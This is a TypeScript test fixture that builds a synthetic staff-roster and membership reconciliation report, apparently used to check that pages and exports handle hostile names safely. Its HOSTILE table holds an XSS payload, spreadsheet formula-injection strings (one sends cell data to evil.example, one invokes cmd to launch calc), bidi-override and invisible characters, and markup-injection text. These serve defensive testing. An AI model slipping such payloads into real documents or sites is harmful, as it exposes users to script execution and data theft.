import { unicodeForm } from '#domain/text/unicode-form.ts';
import type { Report } from '../model.ts';

type People = Report['people'];
type Person = People['owners'][number];

/** Names that break careless pages: markup, formulas, turned text, invisible characters, scripts, length. */
export const HOSTILE = {
  markup: '<img src=x onerror=alert(1)>"\'&amp;</script><script>alert(2)</script>',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  plus: '+1-202-555-0100',
  minus: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd',
  tab: '\t=1+1',
  turned: 'Noor \u202eztsiurq\u202c Lind',
  invisible: 'Mara\u200b Ellings\u0000worth\ufeff',
  typst: '#eval("1+1") $x^2$ *bold* _under_ @ref `raw` \\ // /* </w:t>',
  long: `Annemarie-Josephine ${'van der Hoogenband-Oosterveld '.repeat(6)}Smit`.slice(0, 200),
  unbroken: 'Wolfeschlegelsteinhausenbergerdorff'.repeat(6).slice(0, 200),
  hebrew: 'דנה כהן-לוי',
  arabic: 'ليلى الحداد',
  chinese: '张伟 (Zhang Wei)',
  emoji: 'Kit 🏳️‍🌈 Hargreaves',
  prototype: 'constructor',
  excelCode: 'Row_x000D_break',
} as const;

const MEMBERS = 'Claude members export.csv';

function person(name: string, words: string, row: number, file = MEMBERS, kind = 'members'): Person {
  const email = `${
    unicodeForm(name, 'NFKD')
      .toLowerCase()
      .replace(/[^a-z]+/g, '.')
      .replace(/^\.+|\.+$/g, '')
      .slice(0, 60) || `row${row}`
  }@alder.example.org`;
  return {
    key: email,
    name,
    email,
    words,
    observations: [{ kind, file, row, observedOn: '2026-11-24', says: words.slice(0, 60) }],
  };
}

const FIRST = [
  'Bram',
  'Lotte',
  'Soren',
  'Odalys',
  'Imre',
  'Nadia',
  'Felix',
  'Greta',
  'Pavel',
  'Yusuf',
  'Hanne',
  'Tomas',
  'Renata',
  'Silvan',
  'Aoife',
  'Marek',
  'Ines',
  'Jorn',
  'Petra',
];
const LAST = [
  'Oyelaran',
  'Fairweather',
  'Vantongeren',
  'Brennan',
  'Kovács',
  'Haddad',
  'Brandt',
  'Lindqvist',
  'Novák',
  'Demir',
  'Aalto',
  'Castellane',
  'Ferreira',
  'Keller',
  'Byrne',
  'Zielinski',
  'Prado',
];

export function people(): People {
  const leaver = (name: string, day: string, days: number, row: number) => {
    const base = person(name, `Left on ${day}; holds a seat.`, row);
    return {
      ...base,
      days,
      observations: [
        ...base.observations,
        {
          kind: 'roster',
          file: 'HR/Staff list Nov.xlsx',
          row: row + 3,
          observedOn: '2026-11-23',
          says: `Last day ${day}`,
        },
      ],
    };
  };
  return {
    ready: true,
    why: null,
    restsOn: [
      { kind: 'members', file: MEMBERS, observedOn: '2026-11-24', says: '64 rows' },
      { kind: 'roster', file: 'HR/Staff list Nov.xlsx', observedOn: '2026-11-23', says: '61 rows' },
    ],
    members: 64,
    staff: 61,
    leavers: [
      leaver('Tobin Achterberg', 'Oct 12, 2026', 43, 14),
      leaver('Wren Castellane', 'Oct 30, 2026', 25, 41),
      leaver('Ilse Marchetti', 'Nov 6, 2026', 18, 52),
    ],
    notOnRoster: [
      person(HOSTILE.markup, 'No staff record; joined by invite link on Nov 3, 2026.', 57),
      person(HOSTILE.formula, 'No staff record.', 58),
    ],
    toConfirm: [
      person(
        'Kit Hargreaves',
        'Resembles Katherine Osei-Hargreaves (Research, since 2019): same surname part, no common address.',
        33,
      ),
    ],
    withoutSeat: [
      person('Bram Oyelaran', 'Events, since Nov 16, 2026.', 12, 'HR/Staff list Nov.xlsx', 'roster'),
      person(HOSTILE.long, 'Library, since 2012.', 19, 'HR/Staff list Nov.xlsx', 'roster'),
      person(HOSTILE.unbroken, 'Archive.', 20, 'HR/Staff list Nov.xlsx', 'roster'),
    ],
    guests: [
      {
        ...person(HOSTILE.turned, 'Outside our domains; in the charter as auditor.', 61),
        email: 'noor@auditors.example',
      },
      {
        ...person(HOSTILE.invisible, 'Outside our domains; in the charter.', 62),
        email: 'mara@auditors.example',
      },
    ],
    shared: [
      { ...person('Membership', 'The charter names it as a shared mailbox.', 30), certain: true },
      { ...person('events-team', 'Reads like a team address.', 31), certain: false },
    ],
    service: [{ ...person(HOSTILE.prototype, 'Reads like a service account.', 32), certain: false }],
    owners: [
      person('Mara Ellingsworth', 'Primary Owner.', 2),
      person('Rafe Lindqvist', 'Owner.', 3),
      person('Dana Whitlock', 'Owner.', 4),
    ],
    personalAccounts: [
      person(
        HOSTILE.hebrew,
        'Pro account; contacted on Nov 12, 2026.',
        3,
        'domain-memberships.json',
        'domain_memberships',
      ),
      person(
        HOSTILE.chinese,
        'Free account; contacted on Nov 12, 2026.',
        5,
        'domain-memberships.json',
        'domain_memberships',
      ),
      person(
        'Odalys Brennan',
        'Free account; no one has noted a contact.',
        6,
        'domain-memberships.json',
        'domain_memberships',
      ),
    ],
    matched: [
      ...Array.from({ length: 50 }, (_, index) => {
        const name = `${FIRST[index % FIRST.length]} ${LAST[(index * 3) % LAST.length]}`;
        const mail = `${name.toLowerCase().replace(/[^a-z]+/g, '.')}@alder.example.org`;
        return { member: mail, staff: name, because: 'same_address', words: 'Same address' };
      }),
      ...[
        HOSTILE.plus,
        HOSTILE.minus,
        HOSTILE.at,
        HOSTILE.tab,
        HOSTILE.typst,
        HOSTILE.arabic,
        HOSTILE.emoji,
        HOSTILE.excelCode,
      ].map((staff, index) => ({
        member: `odd.${index}@alder.example.org`,
        staff,
        because: 'alias',
        words: 'Alias in the Entra users file',
      })),
    ],
  };
}
